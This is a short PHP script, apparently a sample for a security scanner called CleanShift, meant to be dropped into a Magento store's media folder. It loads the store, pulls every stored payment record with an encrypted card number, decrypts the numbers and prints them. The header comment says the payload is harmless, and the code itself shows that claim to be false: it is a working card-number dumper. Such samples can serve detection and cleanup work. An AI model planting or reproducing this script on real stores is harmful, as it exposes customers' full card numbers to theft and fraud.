<?php
// CleanShift test sample: the technique is real, the payload is harmless.
// Dropped deep in the media folder, it boots the shop and lists stored cards.
include '../../../../../app/Mage.php';
Mage::app();
$payments = Mage::getModel('sales/quote_payment')->getCollection()
    ->addFieldToFilter('cc_number_enc', array('notnull' => true));
foreach ($payments as $payment) {
    echo Mage::helper('core')->decrypt($payment->getData('cc_number_enc')), "\n";
}
